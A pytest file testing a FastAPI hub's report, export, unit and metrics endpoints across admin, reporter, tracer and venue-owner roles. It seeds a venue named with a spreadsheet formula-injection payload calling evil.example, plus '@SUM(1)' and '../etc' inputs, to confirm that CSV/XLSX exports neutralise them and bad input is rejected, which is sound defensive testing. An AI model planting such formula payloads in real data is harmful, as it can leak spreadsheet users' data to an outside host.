"""The units, usage, quiet-venue, export and metrics endpoints, for every role.

A real store in tmp_path fed by the real Ingestor (`tests.test_reports.Hub`), real
users and API tokens (`hub.auth`), the real app through Starlette's TestClient.
"""

from __future__ import annotations

import csv
import io
from collections.abc import Iterator
from datetime import timedelta
from typing import Any

import pytest
from fastapi.testclient import TestClient
from openpyxl import load_workbook

from doorscan.wire import VenueRecord, encode_message, topic_registry_venue
from hub.access import Role
from hub.auth import create_user, issue_api_token
from hub.ingest import Ingestor
from hub.web.app import create_app
from tests.hubstore import open_store
from tests.test_reports import NOW, Clock, Hub, vn

ROLES: dict[str, tuple[Role, str | None]] = {
    "admin": (Role.ADMIN, None),
    "reporter": (Role.REPORTER, None),
    "tracer": (Role.TRACER, None),
    "owner": (Role.VENUE, "cho-pleiku"),
}
HOSTILE_NAME = '=HYPERLINK("http://evil.example/?"&A1,"click")'
USAGE = {"since": "2026-03-10", "until": "2026-03-12"}


class Api:
    def __init__(self, client: TestClient, tokens: dict[str, str], hub: Hub) -> None:
        self.client, self.tokens, self.hub = client, tokens, hub

    def get(self, who: str | None, path: str, **params: Any) -> Any:
        headers = {"Authorization": f"Bearer {self.tokens[who]}"} if who else {}
        return self.client.get(path, params=params, headers=headers)


@pytest.fixture
def api(hub_db: str) -> Iterator[Api]:
    clock = Clock(NOW)
    with open_store(hub_db) as store:
        hub = Hub(store, clock, Ingestor(store, now=clock))
        hub.register()
        hostile = VenueRecord(venue_id="cho-pleiku", name=HOSTILE_NAME, district="@SUM(1)")
        hub.ingestor.handle(topic_registry_venue("cho-pleiku"), encode_message(hostile))
        hub.scan("cho-pleiku", vn("2026-03-10T23:59"))
        hub.scan("cho-pleiku", vn("2026-03-11T00:00"))
        hub.scan("benh-vien", vn("2026-03-11T10:00"))
        hub.status("door-ghost", True)
        tokens = {}
        for name, (role, venue) in ROLES.items():
            create_user(store, name, name.title(), role, venue, "a long enough password", NOW)
            tokens[name] = issue_api_token(store, name, 30, NOW).token
        with TestClient(create_app(store, now=clock)) as client:
            yield Api(client, tokens, hub)


@pytest.mark.parametrize(
    "path",
    [
        "/api/v1/units",
        "/api/v1/reports/usage",
        "/api/v1/reports/quiet-venues",
        "/api/v1/exports/usage.csv",
        "/api/v1/exports/usage.xlsx",
        "/metrics",
    ],
)
def test_every_endpoint_wants_a_token(api: Api, path: str) -> None:
    answer = api.get(None, path)
    assert answer.status_code == 401
    assert answer.json()["error"] == "unauthenticated"
    bad = api.client.get(path, headers={"Authorization": "Bearer not-a-token"})
    assert bad.status_code == 401


@pytest.mark.parametrize("who", ["admin", "reporter", "tracer"])
def test_all_venue_roles_see_every_venue_unit_and_count(api: Api, who: str) -> None:
    usage = api.get(who, "/api/v1/reports/usage", by="venue", **USAGE)
    assert usage.status_code == 200, usage.text
    assert [(r["day"], r["key"], r["scans"]) for r in usage.json()["rows"]] == [
        ("2026-03-10", "cho-pleiku", 1),
        ("2026-03-11", "benh-vien", 1),
        ("2026-03-11", "cho-pleiku", 1),
    ]
    units = api.get(who, "/api/v1/units").json()
    assert [u["unit_id"] for u in units] == [
        "door-ghost",  # talks, not registered: first, flagged
        "door-benh-vien",
        "door-cho-pleiku",
        "door-uy-ban-iagrai",
    ]
    assert (units[0]["registered"], units[0]["venue_id"], units[0]["online"]) == (False, None, True)
    quiet = api.get(who, "/api/v1/reports/quiet-venues", days=30).json()
    assert [q["venue_id"] for q in quiet] == ["uy-ban-iagrai"]
    assert api.get(who, "/metrics").status_code == 200


def test_a_venue_owner_sees_its_own_venue_only(api: Api) -> None:
    usage = api.get("owner", "/api/v1/reports/usage", by="district", **USAGE).json()
    assert [(r["day"], r["key"], r["scans"]) for r in usage["rows"]] == [
        ("2026-03-10", "@SUM(1)", 1),
        ("2026-03-11", "@SUM(1)", 1),
    ]
    units = api.get("owner", "/api/v1/units").json()
    assert [u["unit_id"] for u in units] == ["door-cho-pleiku"]
    assert api.get("owner", "/api/v1/reports/quiet-venues", days=1).json()[0]["venue_id"] == (
        "cho-pleiku"
    )
    # Another venue by name: refused, and the refusal is audited.
    for path in ("/api/v1/reports/usage", "/api/v1/exports/usage.csv"):
        refused = api.get("owner", path, venue_id="benh-vien", **USAGE)
        assert refused.status_code == 403, refused.text
        assert refused.json()["error"] == "forbidden"
    assert api.hub.store.audit_entries(1)[0].action == "refused"
    # Its own venue by name is fine (control for the refusal above).
    own = api.get("owner", "/api/v1/reports/usage", venue_id="cho-pleiku", **USAGE)
    assert own.status_code == 200 and len(own.json()["rows"]) == 2
    metrics = api.get("owner", "/metrics")
    assert metrics.status_code == 403 and metrics.json()["error"] == "forbidden"


@pytest.mark.parametrize(
    ("params", "status"),
    [
        ({"since": "2026-03-12", "until": "2026-03-10"}, 400),
        ({"since": "2024-01-01", "until": "2026-03-10"}, 400),
        ({"since": "not a day"}, 422),
        ({"since": "0001-01-01"}, 422),
        ({"by": "province"}, 422),
        ({"venue_id": "../etc"}, 422),
    ],
)
def test_bad_report_input_is_a_client_error(api: Api, params: dict[str, str], status: int) -> None:
    answer = api.get("reporter", "/api/v1/reports/usage", **params)
    assert answer.status_code == status, answer.text
    assert set(answer.json()) == {"error", "detail"}


def test_the_default_period_is_the_last_30_vietnam_days(api: Api) -> None:
    usage = api.get("reporter", "/api/v1/reports/usage").json()
    assert (usage["since"], usage["until"]) == ("2026-02-19", "2026-03-20")
    assert sum(r["scans"] for r in usage["rows"]) == 3


def test_silent_minutes_is_a_parameter(api: Api) -> None:
    api.hub.clock.at = NOW - timedelta(minutes=45)
    api.hub.status("door-benh-vien", False)
    api.hub.clock.at = NOW

    def silent(**params: Any) -> bool:
        units = api.get("admin", "/api/v1/units", **params).json()
        return bool({u["unit_id"]: u for u in units}["door-benh-vien"]["silent"])

    assert silent() is True
    assert silent(silent_minutes=60) is False
    assert api.get("admin", "/api/v1/units", silent_minutes=0).status_code == 422


def test_usage_exports_open_and_neutralise_a_hostile_venue_name(api: Api) -> None:
    xlsx = api.get("reporter", "/api/v1/exports/usage.xlsx", by="venue", **USAGE)
    assert xlsx.status_code == 200, xlsx.text
    assert "attachment" in xlsx.headers["content-disposition"]
    sheet = load_workbook(io.BytesIO(xlsx.content)).active
    assert sheet is not None
    rows = [[c.value for c in row] for row in sheet.iter_rows()]
    assert rows[0] == ["day (UTC+7)", "venue_id", "venue", "scans"]
    hostile = [r for r in rows[1:] if r[1] == "cho-pleiku"]
    assert len(hostile) == 2
    for row in hostile:
        assert row[2] == "'" + HOSTILE_NAME  # shown as text, never evaluated
    assert all(c.data_type != "f" for row in sheet.iter_rows() for c in row)
    assert [r[3] for r in rows[1:]] == [1, 1, 1]  # counts stay numbers
    text = api.get("reporter", "/api/v1/exports/usage.csv", by="district", **USAGE)
    assert text.status_code == 200 and text.content.startswith(b"\xef\xbb\xbf")
    table = list(csv.reader(io.StringIO(text.content.decode("utf-8-sig"))))
    assert table[0] == ["day (UTC+7)", "district", "scans"]
    assert ["2026-03-10", "'@SUM(1)", "1"] in table
    # The venue owner's export holds its own venue only.
    own = api.get("owner", "/api/v1/exports/usage.csv", by="venue", **USAGE)
    assert {r[1] for r in csv.reader(io.StringIO(own.content.decode("utf-8-sig")))} == {
        "venue_id",
        "cho-pleiku",
    }


def test_the_openapi_document_lists_the_report_endpoints(api: Api) -> None:
    paths = api.client.get("/openapi.json").json()["paths"]
    for path in (
        "/api/v1/units",
        "/api/v1/reports/usage",
        "/api/v1/reports/quiet-venues",
        "/api/v1/exports/usage.csv",
        "/api/v1/exports/usage.xlsx",
        "/metrics",
    ):
        assert "get" in paths[path], path
